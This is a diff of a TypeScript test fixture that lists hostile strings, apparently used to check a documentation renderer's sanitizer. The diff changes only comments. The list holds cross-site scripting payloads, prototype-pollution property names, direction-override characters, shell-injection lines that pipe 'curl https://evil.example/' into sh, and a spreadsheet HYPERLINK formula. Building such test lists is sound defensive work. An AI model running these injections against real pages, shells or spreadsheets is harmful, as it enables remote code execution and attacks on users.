@@ -1,6 +1,6 @@
-/** What a hostile text tries to be. Whatever it does, it does by `alert`, a request to `evil.example`, or `polluted`. */
+/** Hostile texts. Each attack shows itself by `alert`, a request to `evil.example`, or `polluted`. */
 export const hostileTexts: readonly string[] = [
-  // Scripts and elements that run, load, submit or frame.
+  // Scripts and elements that run, load, submit or embed.
   '<script>alert(1)</script>',
   '<ScRiPt src="https://evil.example/x.js"></ScRiPt>',
   '</script><script>alert(1)</script>',
@@ -22,7 +22,7 @@ export const hostileTexts: readonly string[] = [
   '<img src="https://evil.example/x.png" onerror="alert(1)">',
   '![alt](https://evil.example/x.png)',
   '<dialog open>Type your password</dialog><marquee onstart=alert(1)>',
-  // Handlers and attributes on elements that may stay.
+  // Event handlers and attributes on allowed elements.
   '<p onclick="alert(1)" style="position:fixed;inset:0" class="navbar" id="__docusaurus">text</p>',
   '<a href="https://www.codat.io" onmouseover="alert(1)" target="_top" download>text</a>',
   '<details open ontoggle="alert(1)">text</details>',
@@ -52,17 +52,17 @@ export const hostileTexts: readonly string[] = [
   '```mermaid\nflowchart LR\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A "javascript:alert(1)"\n```',
   '```js\nalert(1)\n```\n\n    <script>alert(1)</script>',
   '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %> #{alert(1)}',
-  // Names that objects have anyway.
+  // Names of built-in properties.
   '__proto__',
   'constructor',
   'toString',
   'hasOwnProperty',
-  // Text that turns, hides or breaks.
+  // Text that overrides direction, hides or breaks.
   '\u202Egnp.exe\u202C \u2066x\u2069 \u200F \u061C',
   'a\u0000b\u0007c\u001Bd',
   '\uFEFF\u200B\u2028\u2029',
   'Z\u0351\u036B\u0343\u036A\u0302'.repeat(40),
-  // Shells and spreadsheets that a copied sample or table could meet.
+  // Shells and spreadsheets into which a copied sample or table could be pasted.
   "'; curl https://evil.example/ | sh; echo '",
   '$(curl https://evil.example/) `curl https://evil.example/`',
   '=HYPERLINK("https://evil.example/","x") @SUM(1) +1 -1',
